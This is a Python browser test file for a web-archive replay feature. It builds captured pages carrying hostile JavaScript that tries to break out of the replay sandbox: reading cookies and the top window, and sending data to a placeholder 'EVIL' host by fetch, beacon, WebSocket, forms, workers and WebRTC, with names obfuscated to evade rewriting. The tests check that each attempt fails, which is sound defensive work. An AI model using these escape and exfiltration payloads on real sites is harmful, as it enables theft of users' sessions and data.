"""Captured pages are replayed in Chromium: what was captured is shown, and what pages try reaches nothing."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import tomllib
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error as PlaywrightError
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from browser.conftest import CHROMIUM, QUIET, served
from browser.walk import log_in
from lieber.preserve.wacz import Page, write_wacz
from site_processes import mission_in
from web_simulator import INSERTED, Listener, Simulator, picture

pytestmark = [pytest.mark.browser, pytest.mark.slow]
AT = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
SITE = "http://captured.example"
WAIT = 30_000
# Everything by which a page may try to reach the site, the officer's session or another machine. Names are
# put together so that the replay does not change them: `real` is the page's true window, `site` that of the
# site, and `out` that of the interface, which has the page's origin and functions that nobody changed.
HOSTILE = """
let real, site, out;
const place = "loca" + "tion";
const told = {};
const tried = async (name, deed) => {
  try { told[name] = String(await deed()); } catch (error) { told[name] = `refused: ${error.name}`; }
};
const soon = (promise) => Promise.race([promise,
  new Promise((_, no) => setTimeout(() => no(new Error("waits")), 4000))]);
const add = (name, members, into = document.body) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(members)) made.setAttribute(key, value);
  into.append(made);
  return made;
};
(async () => {
  real = await (async () => {}).constructor("return th" + "is")();
  site = real["t" + "op"];
  out = site[0];
  await tried("own window", () => site !== real && out.document.querySelector("replay-app-main").tagName);
  await tried("cookie", () => document.cookie + out.document.cookie);
  await tried("site's document", () => site.document.title);
  await tried("site's storage", () => site.localStorage.length);
  await tried("site's frames", () => site[place].href);
  await tried("site by fetch",
    () => soon(out.fetch("MISSION/", {credentials: "include"})).then((got) => got.status));
  await tried("site's front on the replay's host",
    () => soon(out.fetch("/")).then((got) => got.status));
  await tried("log-in on the replay's host",
    () => soon(out.fetch("/log-in/")).then((got) => got.status));
  await tried("elsewhere by fetch",
    () => soon(out.fetch("EVIL/fetch", {mode: "no-cors"})).then((got) => got.type));
  await tried("elsewhere by own fetch",
    () => soon(fetch("EVIL/own", {mode: "no-cors"})).then((got) => got.status));
  await tried("elsewhere by beacon", () => out.navigator.sendBeacon("EVIL/beacon", "x"));
  await tried("elsewhere by socket", () => soon(new Promise((yes, no) => {
    const socket = new out.WebSocket("EVIL/socket".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error("closed"));
  })));
  await tried("elsewhere by own socket", () => soon(new Promise((yes, no) => {
    const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error("closed"));
  })));
  await tried("elsewhere by events", () => { new out.EventSource("EVIL/events"); return "asked"; });
  await tried("elsewhere by a window", () => String(out.open("EVIL/window")));
  await tried("leading the site away", () => { site[place] = "EVIL/top"; return "led"; });
  for (const body of [document.body, out.document.body]) {
    const plain = body.ownerDocument.createElement("iframe");
    body.append(plain);
    const inner = plain.contentDocument;
    inner.body.innerHTML = `<img src="EVIL/image"><link rel="stylesheet" href="EVIL/style">
      <video src="EVIL/film"></video>
      <object data="EVIL/object"></object><embed src="EVIL/embed"><iframe src="EVIL/frame"></iframe>
      <link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="fetch" href="EVIL/preload">
      <style>@import "EVIL/import"; @font-face { font-family: x; src: url(EVIL/font) }
      p { font-family: x; background: url(EVIL/back) }</style><p>x</p>
      <a id="ping" href="#" ping="EVIL/ping">x</a>
      <form action="EVIL/form" method="post"><input name="a" value="b"></form>`;
    inner.querySelector("#ping").click();
    inner.querySelector("form").submit();
    const script = inner.createElement("script");
    script.src = "EVIL/script";
    inner.body.append(script);
    const rules = inner.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({prefetch: [
      {source: "list", urls: ["EVIL/speculated"], eagerness: "immediate"}]});
    inner.body.append(rules);
    // of these no content security policy speaks
    for (const rel of ["preconnect", "dns-prefetch"]) {
      const link = inner.createElement("link");
      link.rel = rel;
      link.href = "EVIL";
      inner.head.append(link);
    }
  }
  await tried("elsewhere by the worker", async () => {
    const {active} = await out.navigator.serviceWorker.getRegistration();
    active.postMessage({msg_type: "addColl", name: "other", file: {sourceUrl: "EVIL/x.wacz"}});
    return "asked";
  });
  await tried("elsewhere by a worker of its own", () => {
    const code = new Blob([`fetch("EVIL/worker", {mode: "no-cors"}); importScripts("EVIL/imported")`]);
    new out.Worker(URL.createObjectURL(code));
    return "asked";
  });
  await tried("elsewhere by a data frame", () => {
    const within = "<img src='EVIL/in-data'><script>fetch('EVIL/from-data')</script>";
    add("iframe", {src: `data:text/html,${within}`}, out.document.body);
    return "asked";
  });
  await tried("leading a frame away", () => {
    add("iframe", {src: "about:blank"}, out.document.body).contentWindow[place] = "EVIL/led";
    return "led";
  });
  await new Promise((done) => setTimeout(done, 3000));
  document.getElementById("told").textContent = JSON.stringify(told);
})();
"""
# No content security policy speaks of these.
AWAY = """
setTimeout(async () => {
  const real = await (async () => {}).constructor("return th" + "is")();
  real["t" + "op"][0]["loca" + "tion"] = "EVIL/away";
}, 500);
"""


PEERS = """
(async () => {
  const real = await (async () => {}).constructor("return th" + "is")();
  for (const realm of [real["t" + "op"][0], real]) {
    const peer = new realm.RTCPeerConnection({iceServers: [{urls: "stun:" + "EVIL".slice(7)}]});
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  }
})();
"""


def package(parts: dict[str, tuple[str, bytes]], *, title: str) -> bytes:
    """A WACZ of what a site answered, by path: media type and body; the first one is its page."""
    warc = io.BytesIO()
    writer = WARCWriter(warc, gzip=True, warc_version="1.1")
    for path, (kind, body) in parts.items():
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", kind), ("Content-Length", str(len(body)))], protocol="HTTP/1.1"
        )
        writer.write_record(
            writer.create_warc_record(
                SITE + path,
                "response",
                payload=io.BytesIO(body),
                length=len(body),
                http_headers=headers,
                warc_headers_dict={"WARC-Date": "2025-03-01T12:00:00Z"},
            )
        )
    out = io.BytesIO()
    write_wacz(
        out,
        warcs={"capture.warc.gz": io.BytesIO(warc.getvalue())},
        pages=[Page(SITE + next(iter(parts)), AT, title=title)],
        title=title,
        created=AT,
        software="tests",
    )
    return out.getvalue()


def a_page(script: str, *, title: str) -> bytes:
    """A page with a script and an image, and a word of what is not in the package."""
    html = (
        f'<!doctype html><meta charset="utf-8"><title>{title}</title><body><h1>{title}</h1><p id="told"></p>'
        '<img id="kept" src="/kept.png"><img src="/not-kept.png"><img src="http://not-kept.example/a.png">'
        '<p id="put"></p><script src="/script.js"></script>'
        f'<script src="data:text/javascript;base64,{base64.b64encode(script.encode()).decode()}"></script>'
    )
    return package(
        {
            "/": ("text/html", html.encode()),
            "/script.js": ("text/javascript", b"document.getElementById('put').textContent = 'Put in';"),
            "/kept.png": ("image/png", picture(0, 120, 0)),
        },
        title=title,
    )


@pytest.fixture(scope="module")
def elsewhere():
    with Listener() as listener:
        yield listener


@pytest.fixture(scope="module")
def replayed(tmp_path_factory, elsewhere):
    """A mission that holds an own capture and pages that mean ill; address, password, exhibits by name."""
    folder = tmp_path_factory.mktemp("replay") / "data"
    with Simulator() as web, served(folder) as (address, password):
        mission = mission_in(folder, None)
        mission.environment.pop("LIEBER_DATABASE", None)
        told = folder / "mission.toml"
        told.write_text(
            f'{told.read_text("utf-8")}\n[capture]\non = true\nallowed = ["127.0.0.1:{web.port}"]\n', "utf-8"
        )
        assert tomllib.loads(told.read_text("utf-8"))["capture"]["on"]
        taken = mission.run("capture", web.url("/article"), "--by", "monitor", "--graphic", "distressing")
        assert taken.returncode == 0, taken.stderr
        evil, site = f"http://127.0.0.1:{elsewhere.port}", address
        hostile = HOSTILE.replace("EVIL", evil).replace("MISSION", site)
        for name, script in {
            "hostile": hostile,
            "away": AWAY.replace("EVIL", evil),
            "peers": PEERS.replace("EVIL", evil),
        }.items():
            path = folder.parent / f"{name}.wacz"
            path.write_bytes(a_page(script, title=name))
            assert mission.run("import", "media", path, "--by", "monitor").returncode == 0
        held = mission.python(
            "from lieber_mission.models import Exhibit; import json; "
            "print(json.dumps({r.original_name: [r.thing, r.item] for r in Exhibit.objects.filter(version=1)"
            " if 'wacz' in r.original_name}))"
        )
        named = {
            word: found
            for name, found in json.loads(held).items()
            for word in ("hostile", "away", "peers", "article")
            if word in name
        }
        yield address, password, named


@pytest.fixture
def window(browser, tmp_path):
    """A window of a browser of its own, with storage kept apart for frames, which Playwright switches off."""
    own = browser.browser_type.launch_persistent_context(
        tmp_path / "profile",
        executable_path=str(CHROMIUM),
        args=[*QUIET, "--disable-features=HttpsUpgrades"],
        viewport={"width": 1280, "height": 1000},
    )
    yield own.new_page()
    own.close()


def begun(page, replayed, name):
    """The replay of an exhibit, after the analyst asked for it; the answers that came meanwhile, by host."""
    address, password, held = replayed
    log_in(page, address, "analyst", password.strip())
    page.goto(f"{address}/exhibits/{held[name][0]}/replay/")
    assert page.locator("iframe").get_attribute("src") is None
    hosts: set[str] = set()
    page.context.on("response", lambda got: hosts.add(urlsplit(got.url).hostname or ""))
    page.locator("details[data-replay] summary").click()
    interface = page.frame_locator("details[data-replay] iframe")
    return interface.frame_locator("replay-app-main iframe"), hosts


def own_hosts(hosts):
    """Whether all hosts are the site's or of this replay, and no request left the machine."""
    return {
        host for host in hosts if not re.fullmatch(r"127\.0\.0\.1|r-[a-z2-7]{26}\.localhost|", host)
    } == set()


def test_a_page_that_was_captured_here_is_replayed_with_what_its_script_put_in(window, replayed, elsewhere):
    address, _password, held = replayed
    shown, hosts = begun(window, replayed, "article")
    shown.get_by_text(INSERTED).wait_for(timeout=WAIT)
    assert shown.locator("img").first.evaluate("one => one.decode().then(() => one.naturalWidth)") == 40
    film = shown.locator("video")
    assert film.evaluate(
        "one => new Promise(done => one.readyState ? done(one.duration)"
        " : one.onloadedmetadata = () => done(one.duration))"
    ) == pytest.approx(2, abs=0.2)
    assert shown.locator("h1").evaluate("one => getComputedStyle(one).color") == "rgb(120, 0, 0)"
    assert own_hosts(hosts)
    assert elsewhere.reached == []
    if folder := os.environ.get("LIEBER_LOOK"):
        window.screenshot(path=Path(folder) / "replay.png", full_page=True)
    window.goto(f"{address}/items/{held['article'][1]}/bench/")
    assert window.get_by_role("link", name="Replay the page").get_attribute("href") == (
        f"/exhibits/{held['article'][0]}/replay/"
    )


def test_what_a_page_tries_reaches_neither_the_site_nor_another_machine(window, replayed, elsewhere):
    address, _password, _held = replayed
    shown, hosts = begun(window, replayed, "hostile")
    shown.locator("#told", has_text="{").wait_for(timeout=2 * WAIT)
    told = json.loads(shown.locator("#told").inner_text())
    print(json.dumps(told, indent=1))
    # the page did get at windows that the replay did not change
    assert told["own window"] == "REPLAY-APP-MAIN"
    assert told["cookie"] == ""
    for name in ("site's document", "site's storage", "site's frames", "leading the site away"):
        assert told[name] == "refused: SecurityError", name
    for name in ("site by fetch", "elsewhere by fetch"):
        assert told[name] == "refused: TypeError", name
    assert told["site's front on the replay's host"] in {"403", "404"}
    assert told["log-in on the replay's host"] in {"403", "404"}
    assert told["elsewhere by a window"] == "null"
    assert shown.locator("#put").inner_text() == "Put in"
    assert shown.locator("#kept").evaluate("one => one.naturalWidth") == 40
    assert elsewhere.reached == []
    assert own_hosts(hosts)
    assert window.url.startswith(f"{address}/exhibits/")
    window.goto(f"{address}/items/")
    assert "/log-in/" not in window.url


@pytest.mark.parametrize("name", ["away", "peers"])
def test_a_page_neither_leads_its_frame_away_nor_finds_peers(window, replayed, elsewhere, name):
    begun(window, replayed, name)
    # Chromium may end the page's process for it
    with suppress(PlaywrightError):
        window.wait_for_timeout(8_000)
    assert elsewhere.reached == []
    assert window.url.startswith(f"{replayed[0]}/exhibits/")


@pytest.mark.parametrize("time", range(2))
def test_a_browser_that_never_saw_a_replay_shows_it_at_once(window, replayed, time):
    shown, _hosts = begun(window, replayed, "article")
    shown.get_by_text(INSERTED).wait_for(timeout=WAIT)


def test_a_replay_that_is_closed_begins_anew(window, replayed):
    shown, _hosts = begun(window, replayed, "article")
    shown.get_by_text(INSERTED).wait_for(timeout=WAIT)
    cover = window.locator("details[data-replay] summary")
    with window.expect_console_message(lambda told: "Cleared data types" in told.text):
        cover.click()
    cover.click()
    shown.get_by_text(INSERTED).wait_for(timeout=WAIT)


def test_without_scripts_there_are_the_picture_and_a_copy(browser, replayed):
    address, password, held = replayed
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        log_in(page, address, "analyst", password.strip())
        page.goto(f"{address}/exhibits/{held['article'][0]}/replay/")
        assert "this browser runs none" in page.locator("noscript").inner_text()
        with page.expect_download() as waiting:
            page.get_by_role("button", name="Take a copy").click()
        assert Path(waiting.value.path()).read_bytes()[:4] == b"PK\x03\x04"
        page.get_by_role("link", name="The page as a picture").click()
        assert page.locator("img").count() == 1
